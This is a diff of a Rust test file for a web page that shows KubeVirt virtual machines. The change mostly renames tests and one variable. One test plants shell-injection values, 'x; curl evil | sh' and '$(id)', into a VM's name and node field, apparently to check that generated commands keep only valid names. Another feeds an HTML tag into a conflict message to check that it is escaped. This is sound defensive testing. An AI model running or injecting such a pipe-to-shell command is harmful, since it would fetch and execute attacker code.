@@ -4,7 +4,7 @@ use super::*;
 use model::{figure::Missing, vm::Status};
 
 #[test]
-fn a_vm_page_tells_all_of_a_vm() {
+fn a_vm_page_shows_figures_volumes_networks_and_commands() {
     let page = render("/vms/payments/db-postgres-0", snapshot(sample::vms(), sample::sources()));
     let text = page.text();
     assert_eq!(page.status, 200);
@@ -25,7 +25,7 @@ fn a_vm_page_tells_all_of_a_vm() {
 }
 
 #[test]
-fn a_vm_in_error_says_why_and_how_to_look() {
+fn a_vm_in_error_says_why_and_how_to_check() {
     let all = || snapshot(sample::vms(), sample::sources());
     let card = render("/?q=gpu", all());
     assert!(card.card("ci/gpu-trainer").contains("href=\"/vms/ci/gpu-trainer#why\""));
@@ -36,11 +36,11 @@ fn a_vm_in_error_says_why_and_how_to_look() {
         "{text}"
     );
     let stopped = render("/vms/shop/frontend-canary", all());
-    assert!(!stopped.html.contains("id=\"why\""), "what is off needs no fix");
+    assert!(!stopped.html.contains("id=\"why\""), "a stopped VM needs no fix");
 }
 
 #[test]
-fn objects_that_contradict_each_other_are_told_as_text() {
+fn a_conflict_between_objects_is_escaped_text() {
     let mut vms = sample::vms();
     vms[0].conflict = Some(Box::new("names as its owner the Wukong <b>".into()));
     let page = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()));
@@ -48,7 +48,7 @@ fn objects_that_contradict_each_other_are_told_as_text() {
 }
 
 #[test]
-fn a_text_that_is_no_name_is_in_no_command() {
+fn commands_contain_only_valid_names() {
     let mut vms = sample::vms();
     vms[0].vm_name = "x; curl evil | sh".into();
     vms[0].summary.node = "$(id)".into();
@@ -58,7 +58,7 @@ fn a_text_that_is_no_name_is_in_no_command() {
 }
 
 #[test]
-fn a_guest_that_a_fault_has_paused_says_why_and_how_to_fix_it() {
+fn a_paused_guest_says_why_and_how_to_fix_it() {
     let mut vms = sample::vms();
     let (message, fix) = ("VMI was paused, IO error", "Look at its disks: kubectl -n a describe vmi b");
     vms[0].summary.kubevirt_status = "Paused".into();
@@ -79,7 +79,7 @@ fn a_guest_that_a_fault_has_paused_says_why_and_how_to_fix_it() {
 }
 
 #[test]
-fn a_size_that_is_not_known_says_why_though_the_vm_is_off() {
+fn a_stopped_vm_says_why_its_size_is_unknown() {
     let mut vms = sample::vms();
     let vm = vms.iter_mut().find(|vm| vm.summary.status == Status::Stopped).unwrap();
     (vm.summary.cpu, vm.summary.memory) = (None, None);
@@ -92,7 +92,7 @@ fn a_size_that_is_not_known_says_why_though_the_vm_is_off() {
 }
 
 #[test]
-fn a_full_file_system_in_a_guest_stands_out() {
+fn a_nearly_full_guest_file_system_is_highlighted() {
     let mut vms = sample::vms();
     let fs = |mount_point: &str, used, total| model::vm::GuestFilesystem {
         mount_point: mount_point.into(),
@@ -109,9 +109,9 @@ fn a_full_file_system_in_a_guest_stands_out() {
     vms[0].guest.at = Some(NOW);
     vms[0].guest.filesystems_left_out = 7;
     let page = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()));
-    let (hot, well) = (page.part(">/<", "</tr>"), page.part(">/srv<", "</tr>"));
-    assert!(hot.contains("n hot") && text(hot).contains("95 / 100 Gi 95 %"), "{hot}");
-    assert!(!well.contains("hot") && text(well).contains("1 / 100 Gi 1 %"), "{well}");
+    let (hot, normal) = (page.part(">/<", "</tr>"), page.part(">/srv<", "</tr>"));
+    assert!(hot.contains("num hot") && text(hot).contains("95 / 100 Gi 95 %"), "{hot}");
+    assert!(!normal.contains("hot") && text(normal).contains("1 / 100 Gi 1 %"), "{normal}");
     assert!(!text(page.part(">/x<", "</tr>")).contains('%'));
     assert!(page.text().contains("7 more file systems are not listed. They are counted."), "{}", page.text());
 }
